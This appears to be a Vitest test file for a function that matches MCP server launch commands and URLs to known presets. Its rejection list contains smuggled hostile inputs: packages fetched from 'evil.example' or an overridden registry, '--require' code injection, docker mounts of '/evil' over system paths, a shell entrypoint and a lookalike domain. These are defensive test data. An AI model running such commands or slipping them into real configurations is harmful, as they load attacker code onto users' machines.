/** Which preset a command is for. */
import { expect, test } from "vitest";
import { presetFor } from "../../../../src/server/gate/presets/match-command.js";

const presetOf = (line: string): string | null => {
  const [program = "", ...rest] = line.split(" ");
  return presetFor({ kind: "command", argv: [program, ...rest] });
};

test.each([
  ["npx -y @modelcontextprotocol/server-filesystem /srv", "filesystem"],
  ["npx @modelcontextprotocol/server-filesystem@2026.8.31 .", "filesystem"],
  ["/usr/bin/npx --yes @modelcontextprotocol/server-memory@latest", "memory"],
  ["npm exec -- @modelcontextprotocol/server-memory", "memory"],
  ["npm x -y @modelcontextprotocol/server-filesystem /srv -- --flag", "filesystem"],
  ["npm exec -- @modelcontextprotocol/server-filesystem --flag", "filesystem"],
  ["yarn dlx @modelcontextprotocol/server-memory", "memory"],
  ["docker run -i -v claude-memory:/app/dist --rm mcp/memory", "memory"],
  ["docker run -i -v /home/p/x:/projects/x:ro mcp/filesystem /projects", "filesystem"],
  ["pnpm dlx @modelcontextprotocol/server-github", "github"],
  ["bunx @modelcontextprotocol/server-filesystem /srv", "filesystem"],
  ["uvx mcp-server-git --repository /srv/x", "git"],
  ["uvx mcp-server-git==2026.1.2", "git"],
  ["uv tool run mcp-server-fetch", "fetch"],
  ["uvx --from mcp-server-git mcp-server-git", "git"],
  ["pipx run mcp-server-fetch", "fetch"],
  ["python -m mcp_server_git", "git"],
  ["/opt/venv/bin/mcp-server-git", "git"],
  ["mcp-server-filesystem /srv", "filesystem"],
  ["github-mcp-server stdio", "github"],
  ["node /opt/node_modules/@modelcontextprotocol/server-memory/dist/index.js", "memory"],
  ["docker run -i --rm mcp/github", "github"],
  ["docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server:v1.0", "github"],
  ["docker run --rm -i --mount type=bind,src=/a,dst=/a mcp/git", "git"],
  ["docker run -i --env=X=1 -v a:/b mcp/memory", "memory"],
])("%s is for %s", (line, name) => {
  expect(presetOf(line)).toBe(name);
});

test.each([
  "npx -y server-filesystem",
  "npx -y @evil/server-filesystem",
  "npx -y evil @modelcontextprotocol/server-filesystem",
  "npx -p @modelcontextprotocol/server-filesystem evil",
  "npx -c @modelcontextprotocol/server-filesystem",
  "npx @modelcontextprotocol/server-filesystem@npm:evil",
  "npx @modelcontextprotocol/server-filesystem@https://evil.example/x.tgz",
  "npm run @modelcontextprotocol/server-filesystem",
  "uvx --with evil mcp-server-git",
  "uvx --from evil mcp-server-git",
  "uvx --from mcp-server-git evil",
  "python -c mcp_server_git",
  "python -m evil mcp_server_git",
  "node -r /tmp/evil.js /opt/server-memory/dist/index.js",
  "node /opt/server-memory-evil/dist/index.js",
  "npx exec @modelcontextprotocol/server-filesystem /srv",
  "npx -y x @modelcontextprotocol/server-filesystem",
  "bunx exec @modelcontextprotocol/server-filesystem",
  "npm @modelcontextprotocol/server-filesystem",
  "npm exec @modelcontextprotocol/server-filesystem --registry=https://evil.example",
  "npm exec @modelcontextprotocol/server-filesystem /srv --node-options=--require=/tmp/e.js",
  "yarn @modelcontextprotocol/server-filesystem",
  "yarn exec @modelcontextprotocol/server-filesystem",
  "pnpm @modelcontextprotocol/server-filesystem",
  "pnpm exec @modelcontextprotocol/server-filesystem",
  "uvx run mcp-server-git",
  "uvx tool mcp-server-git",
  "uv run mcp-server-git",
  "uv tool mcp-server-git",
  "uv mcp-server-git",
  "pipx mcp-server-git",
  "./npx @modelcontextprotocol/server-filesystem",
  "./evil/mcp-server-git",
  "node evil/server-filesystem/build/x.js",
  "node node_modules/@modelcontextprotocol/server-filesystem/dist/index.js /srv",
  "node ./node_modules/@modelcontextprotocol/server-filesystem/dist/index.js /srv",
  "node server-filesystem/dist/evil.js",
  "node /opt/node_modules/server-filesystem/dist/index.js",
  "node /opt/node_modules/@modelcontextprotocol/server-memory/../x/dist/index.js",
  "docker run -v /evil:/app mcp/git",
  "docker run -v /evil:/ mcp/git",
  "docker run -v=/evil:/srv/../usr/bin mcp/git",
  "docker run --mount type=bind,src=/evil,target=/usr/local mcp/git",
  "docker run --mount type=bind,src=/evil mcp/git",
  "docker run -e NODE_OPTIONS=--require=/projects/x.js mcp/filesystem",
  "docker run --env-file /evil mcp/git",
  "docker run --entrypoint sh mcp/github",
  "docker run -i evil mcp/github",
  "docker run -i evil/mcp/github",
  "docker exec x mcp/github",
  "bash -c mcp-server-git",
  "npx",
  "docker run",
])("%s is for none", (line) => {
  expect(presetOf(line)).toBeNull();
  expect(presetOf("uvx mcp-server-git")).toBe("git");
});

test("an address is for the server that is reached there alone", () => {
  const at = (url: string) => presetFor({ kind: "address", url: new URL(url) });
  expect(at("https://api.githubcopilot.com/mcp/")).toBe("github");
  expect(at("https://api.githubcopilot.com.evil.example/mcp/")).toBeNull();
  expect(at("http://api.githubcopilot.com/mcp/")).toBeNull();
  expect(at("https://api.githubcopilot.com/other")).toBeNull();
});
